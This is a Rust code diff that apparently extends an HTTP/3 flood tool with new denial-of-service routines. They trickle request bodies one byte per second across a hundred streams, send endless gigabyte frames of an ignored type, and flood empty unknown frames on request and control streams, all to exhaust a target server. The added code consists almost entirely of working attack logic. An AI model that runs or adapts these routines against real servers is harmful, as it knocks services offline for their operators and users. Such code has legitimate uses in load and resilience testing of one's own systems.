@@ -52,6 +52,69 @@ pub(super) async fn slow_reads(flood: &Flood) -> anyhow::Result<()> {
     Ok(())
 }
 
+/// As many requests as one connection may have, a byte of whose bodies is sent each second.
+pub(super) async fn slow_bodies(flood: &Flood) -> anyhow::Result<()> {
+    let (_endpoint, connection) = dial(flood, TransportConfig::default()).await?;
+    let post = post(&flood.target.host);
+    let mut streams = Vec::new();
+    for _ in 0..REQUESTS {
+        let (mut send, recv) = connection.open_bi().await?;
+        flood.sent();
+        send.write_all(&post).await?;
+        streams.push((send, recv));
+    }
+    let byte = frame(DATA, 1, b"x");
+    let mut ticks = interval(Duration::from_secs(1));
+    while !streams.is_empty() {
+        ticks.tick().await;
+        let mut left = Vec::new();
+        for (mut send, recv) in streams {
+            if send.write_all(&byte).await.is_ok() {
+                left.push((send, recv));
+            }
+        }
+        streams = left;
+    }
+    Ok(())
+}
+
+/// Frames of a GiB that nobody knows, as fast as they are taken.
+pub(super) async fn unknown(flood: &Flood) -> anyhow::Result<()> {
+    let (_endpoint, connection) = dial(flood, TransportConfig::default()).await?;
+    let piece = vec![b'x'; 64 << 10];
+    loop {
+        let (mut send, _recv) = connection.open_bi().await?;
+        flood.sent();
+        send.write_all(&frame(UNKNOWN, 1 << 30, &[])).await?;
+        for _ in 0..(1 << 30) / piece.len() {
+            if send.write_all(&piece).await.is_err() {
+                break;
+            }
+        }
+    }
+}
+
+/// Frames that nobody knows and that have nothing, as fast as they are taken: behind the head of a request, or
+/// on the control stream.
+pub(super) async fn frames(flood: &Flood, number: u64) -> anyhow::Result<()> {
+    let (_endpoint, connection) = dial(flood, TransportConfig::default()).await?;
+    let piece = frame(UNKNOWN, 0, &[]).repeat(FRAMES);
+    loop {
+        let mut send = if number.is_multiple_of(2) {
+            let (mut send, _recv) = connection.open_bi().await?;
+            send.write_all(&post(&flood.target.host)).await?;
+            send
+        } else {
+            let mut send = connection.open_uni().await?;
+            send.write_all(&[CONTROL, SETTINGS, 0]).await?;
+            send
+        };
+        while send.write_all(&piece).await.is_ok() {
+            flood.sent_many(FRAMES as u64);
+        }
+    }
+}
+
 /// Heads that say to have 900 MB, and have as much as is taken.
 pub(super) async fn heads(flood: &Flood) -> anyhow::Result<()> {
     let (_endpoint, connection) = dial(flood, TransportConfig::default()).await?;
@@ -97,7 +160,23 @@ fn get(host: &str, path: &str) -> Vec<u8> {
     frame(HEADERS, section.len() as u64, &section)
 }
 
+/// `POST https://HOST/`, which declares no length.
+fn post(host: &str) -> Vec<u8> {
+    let mut section = vec![0, 0, 0xd4, 0xd7, 0xc1];
+    section.extend([0x50, u8::try_from(host.len()).unwrap_or(0)]);
+    section.extend(host.as_bytes());
+    frame(HEADERS, section.len() as u64, &section)
+}
+
+const DATA: u64 = 0;
 const HEADERS: u64 = 1;
+/// A type that is there to be ignored (RFC 9114 section 7.2.8).
+const UNKNOWN: u64 = 0x21;
+/// What a control stream begins with.
+const CONTROL: u8 = 0;
+const SETTINGS: u8 = 4;
+/// Frames of one write.
+const FRAMES: usize = 32 << 10;
 const HUGE: u64 = 900_000_000;
 /// Requests of one connection at once.
 const REQUESTS: usize = 100;
